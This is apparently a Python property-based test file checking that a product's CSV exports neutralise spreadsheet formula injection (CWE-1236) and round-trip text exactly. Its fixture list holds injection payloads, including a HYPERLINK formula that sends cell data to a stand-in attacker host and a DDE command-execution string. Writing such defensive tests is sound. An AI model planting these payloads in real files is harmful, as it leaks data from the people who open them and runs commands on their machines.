"""Formula cells (CWE-1236) through every CSV the product writes: the rejected rows of an
import (``write_rejected``) and the consent evidence (``write_evidence``).

The promise: no cell of a CSV the product writes starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return; reading it back (``formula_restored``, what ``import`` does)
gives the exact text; JSON lines keep the text exactly as it was.
"""

from __future__ import annotations

import csv
import io
import json
import tempfile
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from regal_desktop.domain.spreadsheet import FORMULA_STARTS, formula_restored
from regal_desktop.services.bulk_import import plan_file, write_rejected
from regal_desktop.services.evidence import EVIDENCE_COLUMNS, write_evidence

FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])

#: What an attacker (or an unlucky form) puts in a consent text, a source or a name.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+19545550123",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''+1",
    "=",
]
cells = (
    st.sampled_from(FORMULAS)
    | st.builds(
        "".join,
        st.lists(st.sampled_from(["'", *FORMULA_STARTS, "x", " ", '"', ",", "\n"]), max_size=6),
    )
    | st.text(max_size=8)
)
#: Columns a rejected row keeps as they were; consent makes the checker read text and source.
HEADER = ["userId", "firstName", "phone", "smsOptIn", "optInText", "optInSource", "optInIp"]


def _read_csv(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter))


def _no_formulas(rows: list[list[str]]) -> None:
    for number, row in enumerate(rows, start=1):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"row {number}: {cell!r} runs as a formula"


@st.composite
def import_rows(draw: st.DrawFn) -> list[list[str]]:
    """Rows for HEADER, many of them rejected (a bad IP, a bad consent word, a bad phone)."""
    rows = []
    for number in range(draw(st.integers(1, 6))):
        rows.append(
            [
                f"u-{number}",
                draw(cells),
                draw(st.sampled_from(["+19545550123", "'+19545550123", "-1", "=1+1"])),
                draw(st.sampled_from(["yes", "maybe", "=TRUE()"])),
                draw(cells),
                draw(cells),
                draw(st.sampled_from(["203.0.113.7", "@1", "-"])),
            ]
        )
    return rows


@FUZZ
@given(import_rows(), st.sampled_from([",", ";"]))
def test_rejected_rows_file_has_no_formula_and_imports_exactly_again(
    rows: list[list[str]], delimiter: str
) -> None:
    with tempfile.TemporaryDirectory() as folder:
        source, rejected = Path(folder) / "contacts.csv", Path(folder) / "rejected.csv"
        with source.open("w", encoding="utf-8", newline="") as stream:
            writer = csv.writer(stream, delimiter=delimiter)  # a person's file, as given
            writer.writerows([HEADER, *rows])
        plan = plan_file(source)
        write_rejected(plan, rejected)
        written = _read_csv(rejected.read_text(encoding="utf-8"), delimiter)
        _no_formulas(written)
        again = plan_file(rejected)
    assert [row.cells[2:] for row in again.rejected] == [row.cells for row in plan.rejected]


evidence_rows = st.fixed_dictionaries(
    {
        column: st.one_of(st.none(), st.booleans(), st.integers(), cells)
        for column in EVIDENCE_COLUMNS
    }
)


@FUZZ
@given(st.lists(evidence_rows, max_size=5))
def test_evidence_csv_has_no_formula_and_jsonl_is_exact(rows: list[dict[str, Any]]) -> None:
    stream = io.StringIO(newline="")
    assert write_evidence(rows, stream, "csv") == len(rows)
    written = _read_csv(stream.getvalue())
    _no_formulas(written)
    assert written[0] == list(EVIDENCE_COLUMNS)
    for row, cells_written in zip(rows, written[1:], strict=True):
        for column, cell in zip(EVIDENCE_COLUMNS, cells_written, strict=True):
            value = row[column]
            expected = (
                ""
                if value is None
                else str(value).lower()
                if isinstance(value, bool)
                else str(value)
            )
            assert formula_restored(cell) == expected
    lines = io.StringIO()
    write_evidence(rows, lines, "jsonl")
    # One record a line, split on "\n" only: JSON text may hold U+2028 as it is.
    assert [json.loads(line) for line in lines.getvalue().split("\n")[:-1]] == rows
